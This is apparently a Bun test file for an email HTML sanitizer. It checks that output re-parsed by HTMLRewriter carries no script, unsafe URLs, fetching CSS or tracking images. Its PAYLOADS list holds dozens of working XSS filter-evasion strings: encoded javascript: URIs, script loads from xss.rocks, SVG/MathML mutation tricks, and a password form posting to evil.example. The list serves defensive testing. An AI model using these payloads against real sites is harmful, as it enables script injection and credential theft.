/**
 * The sanitizer against XSS payloads in the style of the OWASP XSS Filter Evasion Cheat Sheet and
 * against the HTML of every corpus message. What comes out is read back with a second, unrelated
 * HTML parser (Bun's HTMLRewriter, lol-html) and must hold the sanitizer's promises whatever went in.
 */
import { describe, expect, test } from "bun:test";
import { existsSync } from "node:fs";
import { join } from "node:path";
import { Glob } from "bun";
import { simpleParser } from "mailparser";
import { sanitizeHtml } from "./sanitize.ts";

const ELEMENTS = new Set(
  [
    "a abbr address b bdi bdo big blockquote br caption center cite code col colgroup dd del dfn div dl dt em",
    "figcaption figure font h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp small span strike strong",
    "sub sup table tbody td tfoot th thead tr tt u ul var wbr",
  ]
    .join(" ")
    .split(" "),
);
const ATTRIBUTES = new Set(
  [
    "href src alt title width height style dir lang align rel target colspan rowspan valign bgcolor nowrap border",
    "cellpadding cellspacing summary span color face size start type value data-remote-src",
  ]
    .join(" ")
    .split(" "),
);

/** Every way the output could still run code or fetch something by itself; empty when it holds. */
function violations(html: string): string[] {
  const found: string[] = [];
  new HTMLRewriter()
    .on("*", {
      element(el) {
        const tag = el.tagName;
        if (!ELEMENTS.has(tag)) found.push(`element ${tag}`);
        for (const [name, value] of el.attributes) {
          if (!ATTRIBUTES.has(name)) found.push(`${tag} ${name}=${value}`);
          if (name === "href" && !/^(https?:\/\/|mailto:)/i.test(value)) found.push(`${tag} href=${value}`);
          if (name === "src" && !/^(cid:|data:image\/(png|gif|jpe?g|webp)[;,])/i.test(value))
            found.push(`${tag} src=${value}`);
          // Loads nothing; the console may show it on the reader's request (an http(s) address only).
          if (name === "data-remote-src" && (tag !== "img" || !/^https?:\/\//i.test(value)))
            found.push(`${tag} data-remote-src=${value}`);
          const css = value.replace(/(rgba?|hsla?)\([\d\s.,%/]*\)/gi, "");
          if (name === "style" && /url|expression|\\|@import|javascript|behavior|binding|[()]/i.test(css))
            found.push(`${tag} style=${value}`);
        }
        if (tag === "a" && (el.getAttribute("rel") !== "noopener noreferrer" || el.getAttribute("target") !== "_blank"))
          found.push("a without rel/target");
      },
    })
    .onDocument({
      comments(c) {
        found.push(`comment ${c.text}`);
      },
    })
    .transform(html);
  return found;
}

// OWASP XSS Filter Evasion Cheat Sheet style payloads, plus the ways mail tracks its readers.
const PAYLOADS = [
  `<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116` +
    `&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039` +
    `&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `<iframe src=http://xss.rocks/scriptlet.html <>`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')"><IMG LOWSRC="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<svg/onload=alert('XSS')>`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')"><TD BACKGROUND="http://tracker.example/t.gif">x</TD></TABLE>`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">x</DIV>`,
  `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070` +
    `\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028\\0027\\0058\\0053\\0053\\0027\\0029'\\0029">x</DIV>`,
  `<DIV STYLE="width: expression(alert('XSS'));">x</DIV>`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="jav&#x09;ascript:alert(1)">x</a>`,
  `<a href="&#x6A;avascript&colon;alert(1)">x</a>`,
  `<a href="  javascript:alert(1)">x</a>`,
  `<a href="//evil.example/">protocol-relative</a>`,
  `<img src="data:image/svg+xml,<svg onload=alert(1)>">`,
  `<img src="//tracker.example/pixel.gif">`,
  `<img src="https://tracker.example/pixel.gif?u=42" width="1" height="1">`,
  `<img srcset="https://tracker.example/a.png 1x, https://tracker.example/b.png 2x" src="cid:logo">`,
  `<p style="background:url(https://tracker.example/t.gif)">x</p>`,
  `<p style="background-image: url(&quot;https://tracker.example/t.gif&quot;)">x</p>`,
  `<p style="font-family: 'x\\'; background: url(https://tracker.example/)">x</p>`,
  `<div style="color: red; behavior: url(xss.htc); -moz-binding: url(x.xml#xss)">x</div>`,
  `<a href="https://example.com/" style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</a>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<form action="https://evil.example"><input name="password" type="password"><button formaction="javascript:alert(1)">Log in</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
  `<video poster="https://tracker.example/t.png"><source src="https://tracker.example/a.mp4"></video>`,
  `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
  `<table><tr><td background="https://tracker.example/bg.png" onclick="x()">cell</td></tr></table>`,
  `<a href="https://example.com/" target="_self" rel="opener">keeps its target?</a>`,
  `<img src="cid:x" onerror="alert(1)" usemap="#m"><map name="m"><area href="javascript:alert(1)"></map>`,
];

describe("sanitizeHtml", () => {
  test.each(PAYLOADS)("%s", (payload) => {
    expect(violations(payload)).not.toEqual([]);
    expect(violations(sanitizeHtml(payload))).toEqual([]);
  });

  test("no script, style, title or head text survives as text either", () => {
    const out = sanitizeHtml(
      `<html><head><title>T1</title><style>p{color:red}</style><script>var secret=1</script></head><body><p>visible</p><noscript>ns</noscript></body></html>`,
    );
    expect(out).toBe("<p>visible</p>");
  });

  test("links keep http, https and mailto targets and open apart, without the opener", () => {
    expect(sanitizeHtml(`<a href="https://example.com/a?b=1&c=2" target="_self" onclick="x()">ok</a>`)).toBe(
      `<a target="_blank" href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer">ok</a>`,
    );
    expect(sanitizeHtml(`<a href="mailto:a@example.com">m</a>`)).toBe(
      `<a href="mailto:a@example.com" rel="noopener noreferrer" target="_blank">m</a>`,
    );
    expect(sanitizeHtml(`<a href="javascript:alert(1)">j</a>`)).toBe(
      `<a rel="noopener noreferrer" target="_blank">j</a>`,
    );
  });

  test("images from the message itself stay; a remote one (tracking pixel) keeps its address only where nothing loads it", () => {
    expect(sanitizeHtml(`<img src="cid:logo@example.com" alt="logo">`)).toBe(
      `<img src="cid:logo@example.com" alt="logo" />`,
    );
    expect(sanitizeHtml(`<img src="data:image/png;base64,iVBORw0KGgo=">`)).toBe(
      `<img src="data:image/png;base64,iVBORw0KGgo=" />`,
    );
    expect(sanitizeHtml(`a<img src="https://tracker.example/p.gif" width="1" height="1">b`)).toBe(
      `a<img data-remote-src="https://tracker.example/p.gif" width="1" height="1" />b`,
    );
    expect(sanitizeHtml(`<img src="//tracker.example/p.gif">`)).toBe("");
    // A sender's own data-remote-src is not kept: only an http(s) src becomes one.
    expect(sanitizeHtml(`<img src="cid:x" data-remote-src="https://tracker.example/p.gif">`)).toBe(
      `<img src="cid:x" />`,
    );
    expect(sanitizeHtml(`<img data-remote-src="https://tracker.example/p.gif">`)).toBe("");
    expect(sanitizeHtml(`<img src='https://x.example/"><b>'>`)).toBe(
      `<img data-remote-src="https://x.example/&quot;&gt;&lt;b&gt;" />`,
    );
    expect(sanitizeHtml(`<img src="data:image/svg+xml;base64,PHN2Zz4=">`)).toBe("");
  });

  test("formatting, tables and plain inline styles stay; CSS that can fetch goes", () => {
    const table = `<table border="1" cellpadding="4"><tbody><tr><td colspan="2" align="center"><b>x</b> <i>y</i></td></tr></tbody></table>`;
    expect(sanitizeHtml(table)).toBe(table);
    expect(
      sanitizeHtml(
        `<p style="color: rgb(10, 20, 30); font-family: Arial, sans-serif; background: url(https://t.example/)">s</p>`,
      ),
    ).toBe(`<p style="color:rgb(10, 20, 30);font-family:Arial, sans-serif">s</p>`);
  });
});

const CORPUS = join(import.meta.dir, "..", "..", "..", "shared", "corpus", "email");
const files = existsSync(CORPUS) ? [...new Glob("**/*.eml").scanSync(CORPUS)].sort() : [];

describe.skipIf(files.length === 0)("sanitizeHtml on the corpus", () => {
  test("the HTML of every corpus message comes out clean and keeps its text", async () => {
    let withHtml = 0;
    for (const file of files) {
      const mail = await simpleParser(Buffer.from(await Bun.file(join(CORPUS, file)).bytes()), {
        keepCidLinks: true,
        skipTextToHtml: true,
      });
      if (typeof mail.html !== "string") continue;
      withHtml++;
      const out = sanitizeHtml(mail.html);
      expect({ file, violations: violations(out) }).toEqual({ file, violations: [] });
      if (/[a-z]{3}/i.test(mail.text ?? ""))
        expect({ file, text: /[a-z]{3}/i.test(out) }).toEqual({ file, text: true });
    }
    expect(withHtml).toBeGreaterThan(20);
  });

  test("embedded images (cid:) survive in a real message", async () => {
    const mail = await simpleParser(Buffer.from(await Bun.file(join(CORPUS, "mailparser/nodemailer.eml")).bytes()), {
      keepCidLinks: true,
    });
    expect(sanitizeHtml(String(mail.html))).toContain(`<img src="cid:nyan@example.com" />`);
  });
});
